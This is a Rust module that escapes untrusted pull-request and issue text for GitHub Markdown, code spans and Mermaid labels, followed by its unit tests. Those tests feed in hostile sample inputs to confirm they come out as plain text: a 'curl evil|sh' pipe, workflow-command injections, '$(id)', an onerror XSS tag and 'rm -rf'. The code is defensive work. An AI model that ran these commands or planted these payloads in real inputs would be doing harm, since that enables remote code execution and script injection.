//! GitHub Markdown for outside text: what every job summary, comment, check run output and
//! changelog uses to show text from pull requests, issues, commits and servers as data, never
//! as markup. One escaper for the format, so no two writers disagree on what is safe.

/// Text as one safe Markdown line, fit for a table cell: control characters shown escaped (so
/// nothing can start a new line, a workflow command or a heading), Markdown and HTML
/// punctuation escaped (emphasis, code, links, headings, tables, tags, entities), `@` broken
/// with a zero-width space so it mentions no one (GitHub finds mentions after the backslash
/// escapes are gone), cut to `max` characters.
pub fn inline(text: &str, max: usize) -> String {
    let mut out = String::new();
    for (count, c) in text.chars().enumerate() {
        if count == max {
            out.push('…');
            break;
        }
        match c {
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push(' '),
            c if c.is_control() => out.push_str(&c.escape_unicode().to_string()),
            '@' => out.push_str("@\u{200b}"),
            '\\' | '`' | '*' | '_' | '[' | ']' | '<' | '>' | '|' | '#' | '~' | '&' => {
                out.push('\\');
                out.push(c);
            }
            c => out.push(c),
        }
    }
    out
}

/// Text as a Markdown code span, outside tables: one line (control characters become
/// spaces), cut to `max` characters, fenced with more backticks than it holds so it cannot
/// close the span early.
pub(crate) fn code(text: &str, max: usize) -> String {
    let mut line: String = text
        .chars()
        .map(|c| if c.is_control() { ' ' } else { c })
        .take(max)
        .collect();
    if text.chars().count() > max {
        line.push('…');
    }
    let mut longest = 0;
    let mut run = 0;
    for c in line.chars() {
        run = if c == '`' { run + 1 } else { 0 };
        longest = longest.max(run);
    }
    let fence = "`".repeat(longest + 1);
    let pad = if line.starts_with('`') || line.ends_with('`') {
        " "
    } else {
        ""
    };
    format!("{fence}{pad}{line}{pad}{fence}")
}

/// Text as a Mermaid node label inside `["…"]`: one line, cut to `max` characters, with the
/// quote and angle brackets as Mermaid's entity codes.
pub(crate) fn mermaid_label(text: &str, max: usize) -> String {
    let short: String = text.chars().filter(|c| !c.is_control()).take(max).collect();
    short
        .replace('"', "#quot;")
        .replace('<', "#lt;")
        .replace('>', "#gt;")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn pull_request_text_stays_one_escaped_line() {
        let evil = "x\"; curl evil|sh; echo \"\n::add-mask::secret\r\n::stop-commands::t $(id) <b>";
        let safe = inline(evil, 1000);
        assert!(!safe.contains('\n') && !safe.contains('\r'));
        assert!(!safe.contains("\n::"));
        assert!(safe.contains("\\|") && safe.contains("\\<b\\>") && safe.contains("$(id)"));
        let long = "é".repeat(10_000);
        assert_eq!(inline(&long, 100).chars().count(), 101);
    }

    #[test]
    fn mentions_ping_no_one() {
        let safe = inline("cc @everyone and @acme/security", 200);
        assert!(!safe.contains("@e") && !safe.contains("@a"), "{safe}");
        assert_eq!(
            safe.replace('\u{200b}', ""),
            "cc @everyone and @acme/security"
        );
    }

    #[test]
    fn a_pipe_cannot_add_a_table_cell() {
        let row = format!("| {} | ok |", inline("a | b | c", 200));
        let unescaped = row
            .char_indices()
            .filter(|&(i, c)| c == '|' && !row[..i].ends_with('\\'))
            .count();
        assert_eq!(unescaped, 3, "{row}");
    }

    #[test]
    fn html_and_entities_stay_text() {
        let safe = inline("<img src=x onerror=alert(1)> &lt;b&gt;", 200);
        assert_eq!(safe, "\\<img src=x onerror=alert(1)\\> \\&lt;b\\&gt;");
    }

    #[test]
    fn links_emphasis_code_and_headings_stay_text() {
        let safe = inline(
            "# [click](https://evil.example) **now** `rm -rf` _x_ ~~y~~",
            200,
        );
        assert_eq!(
            safe,
            "\\# \\[click\\](https://evil.example) \\*\\*now\\*\\* \\`rm -rf\\` \\_x\\_ \\~\\~y\\~\\~"
        );
        assert_eq!(
            inline("a\\", 10),
            "a\\\\",
            "a trailing backslash escapes nothing"
        );
    }

    #[test]
    fn a_code_span_outlasts_the_backticks_inside() {
        assert_eq!(code("abc1234", 12), "`abc1234`");
        assert_eq!(code("a ``b`` c", 50), "```a ``b`` c```");
        assert_eq!(code("`x`", 50), "`` `x` ``");
        assert_eq!(code("one\ntwo", 50), "`one two`");
        assert_eq!(code("abcdef", 3), "`abc…`");
    }

    #[test]
    fn a_mermaid_label_cannot_close_its_node() {
        assert_eq!(
            mermaid_label("say \"hi\" <b>\n", 60),
            "say #quot;hi#quot; #lt;b#gt;"
        );
    }
}
